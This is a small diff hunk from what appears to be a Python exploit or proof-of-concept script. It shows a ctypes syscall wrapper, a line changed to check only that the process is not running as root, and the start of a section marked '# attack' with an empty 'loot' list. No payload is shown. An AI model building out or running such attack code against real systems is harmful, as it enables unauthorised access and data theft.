@@ -21,7 +21,7 @@ def syscall(x86_64, aarch64, *args):
     return libc.syscall(ctypes.c_long(number), *words), errno.errorcode.get(ctypes.get_errno(), "")
 
 
-os.getuid() == os.geteuid() == 1000
+os.getuid() == os.geteuid() != 0
 
 # attack
 loot = []
